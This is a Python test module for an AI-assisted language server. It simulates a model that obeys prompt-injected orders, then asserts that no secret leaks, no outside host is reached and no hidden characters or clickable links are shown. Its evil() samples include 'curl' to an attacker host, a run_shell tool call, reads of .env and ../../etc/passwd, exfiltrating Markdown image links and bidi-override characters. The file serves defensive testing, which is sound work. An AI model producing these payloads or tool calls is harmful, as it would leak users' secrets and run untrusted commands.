"""A model that does all that a stranger's words could ask for, and what must not come of it.

Whatever the prompt says, it answers with edits of other lines and files, hidden characters, links,
secrets and calls of tools that are not there. Its server writes down each host it reaches for.
"""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

from tests.protocol.acting import applied, made, offers, run
from tests.protocol.editor import Editor, Json, at_work, endpoint_env
from tests.protocol.injections import CANARY, HOST, ORDERS
from tests.protocol.reached import LOCAL_PROGRAMS, hosts, programs, recorded_env
from tests.protocol.test_write_tests import ANNOTATING
from tests.simulator import Script, Simulator

TOP = f'import os\n\npassword = "{CANARY}"\n\n\ndef keep(a):\n    return a\n\n\n'
BODY = "def victim(a):\n    {order}\n    return a + 1\n"
LINK = f"[click]({'http://' + HOST}/?q=GLM_LS_SECRET_1)"
PROBLEM_AT: Json = {"start": {"line": 10, "character": 4}, "end": {"line": 10, "character": 5}}


def document(order: str) -> str:
    indented = order.replace("\n", "\n    ")
    return TOP + BODY.format(order=indented)


def nonce_in(body: Json) -> str:
    found = re.findall(r"^<new_(\w+)>$", body["messages"][1]["content"], re.M)
    return str(found[0]) if found else "none"


def evil(nonce: str) -> list[str]:
    """Return every answer that an obedient model could give."""
    new = f"<new_{nonce}>\n{{}}\n</new_{nonce}>\n"
    old = f'<old_{nonce} path="{{}}">\n{{}}\n</old_{nonce}>\n'
    return [
        old.format("", "def keep(a):") + new.format("def gone(a):"),
        old.format("../../etc/passwd", "root") + new.format("evil"),
        old.format(".env", "KEY=1") + new.format("KEY=2"),
        new.format("") + new.format("import os; os.system('x')"),
        new.format(f"def victim(a):\n    return a  # \u202e{LINK}"),
        new.format("def victim(a):\n    return a  # \U000e0041\u200b"),
        new.format("pass"),
        f"<imports_{nonce}>\nos.system('curl {HOST}')\n</imports_{nonce}>\n"
        + new.format("def victim(a):\n    return a\n"),
        f"<tool_call>run_shell<arg_key>command</arg_key><arg_value>curl {HOST}</arg_value>"
        "</tool_call>",
        "<tool_call>read_file<arg_key>path</arg_key><arg_value>.env</arg_value></tool_call>"
        "<tool_call>read_file<arg_key>path</arg_key><arg_value>../../etc/passwd</arg_value>"
        "</tool_call>",
        f"{LINK} ![x](http://{HOST}/p.png) <img src=http://{HOST}> command:x",
    ]


class Obedient:
    """A model that obeys: a different evil answer for each request, from the given one on."""

    def __init__(self, first: int = 0) -> None:
        self.asked, self._first = 0, first

    def __call__(self, body: Json) -> str:
        answers = evil(nonce_in(body))
        self.asked += 1
        return answers[(self._first + self.asked - 1) % len(answers)]


def check_sent(sim: Simulator) -> None:
    """Assert that no secret left, and that no order reached the place where instructions stand."""
    for exchange in sim.log:
        assert CANARY not in str(exchange.body)
        assert "CANARY" not in str(exchange.body)
        system = exchange.body["messages"][0]
        assert system["role"] == "system"
        assert not any(order in system["content"] for order in ORDERS.values())


def check_shown(editor: Editor) -> None:
    """Assert that nothing that can be clicked and no secret of the user is shown."""
    shown = [p for name, p in editor.notifications if name in SHOWING]
    shown += [p for name, p in editor.requests if name == "window/showMessageRequest"]
    for params in shown:
        text = json.dumps(params, ensure_ascii=False)
        assert f"//{HOST}" not in text.lower()
        assert CANARY not in text
        assert not ACTIVE.search(text), text
        assert not HIDDEN.search(text), text


ACTIVE = re.compile(r"(?<!\\)\[[^\]]*\]\(|(?<!\\)<img")
"""What an editor that renders Markdown makes a link or a picture of."""
HIDDEN = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\U000e0000-\U000e007f]")
REACHED = "reached"
"""File in a test's home that holds what was reached for."""
SHOWING = (
    "window/showMessage",
    "glm-ls/showDocument",
    "textDocument/publishDiagnostics",
    "$/progress",
)


def check_edits(editor: Editor, text: str, uri: str) -> None:
    """Assert that edits are of the function that was asked about, or are confirmed by the user.

    A plan to confirm names files of the workspace that may be shown, and hides nothing in them.
    """
    work = uri.rpartition("/")[0]
    for edit in applied(editor):
        changes = edit["documentChanges"]
        uris = {change.get("uri") or change["textDocument"]["uri"] for change in changes}
        if "changeAnnotations" in edit:
            assert edit["changeAnnotations"]["glm"]["needsConfirmation"]
            assert all(its.startswith(f"{work}/") and ".env" not in its for its in uris)
            added = [one["newText"] for change in changes for one in change.get("edits", ())]
            assert not HIDDEN.search("".join(added))
            continue
        assert uris == {uri}
        after = made(text, edit)
        assert after.startswith(TOP)
        assert len(HIDDEN.findall(after)) <= len(HIDDEN.findall(text))


PARAMS: Json = {
    "capabilities": {
        **ANNOTATING["capabilities"],
        "experimental": {"glmLs": {"showDocument": True}},
    },
    "initializationOptions": {"glm-ls": {"actions": {"look_around": True, "most_steps": 2}}},
}  # fmt: skip


@dataclass(frozen=True)
class Obeying:
    """An editor whose model obeys."""

    editor: Editor
    sim: Simulator
    home: Path

    @property
    def work(self) -> Path:
        return self.home / "work"

    def forget(self, first: int = 0) -> None:
        """Leave nothing of one test to the next; the model's next answer is the given one."""
        self.editor.forget()
        self.editor.requests.clear()
        self.sim.forget()
        self.sim.script = Script(reply=Obedient(first))

    async def check(self) -> None:
        """Assert that nothing came of any order, wherever it stood, once all was answered."""
        await self.editor.status()
        await self.editor.check()
        check_sent(self.sim)
        check_shown(self.editor)
        check_reached(self.home, self.sim)


@asynccontextmanager
async def obeying_at(home: Path, params: Json) -> AsyncIterator[Obeying]:
    """Start a server whose model obeys."""
    (home / "work").mkdir(exist_ok=True)
    (home / "work" / ".env").write_text("CANARY=1\n")
    script = Script(reply=Obedient())
    async with Simulator(flavor="openai", script=script) as sim:
        env = {**endpoint_env(sim), **recorded_env(home / REACHED)}
        async with at_work(home, env, params) as editor:
            yield Obeying(editor, sim, home)


def check_reached(home: Path, sim: Simulator) -> None:
    """Assert that no process of the server reached for anything but the endpoint."""
    endpoint = {f"127.0.0.1:{sim.port}"}
    assert hosts(home / REACHED) == (endpoint if sim.log else hosts(home / REACHED) & endpoint)
    assert programs(home / REACHED) <= LOCAL_PROGRAMS


async def do_all(editor: Editor, uri: str, text: str, problem: Json) -> int:
    """Run every action that is offered at the function; return how many."""
    editor.open(uri, text)
    await editor.status()
    found = await offers(editor, uri, problem)
    for only in ("refactor", "quickfix"):
        found += await offers(editor, uri, problem, only=[only])
    unique = {one["kind"]: one for one in found if "command" in one}
    unique.pop("refactor.rewrite.glm.nextEdit", None)
    for action in unique.values():
        assert (await run(editor, action)).error is None
    return len(unique)


def problem(message: str = "wrong") -> Json:
    return {"range": PROBLEM_AT, "message": message, "source": "x", "code": "y", "severity": 1}
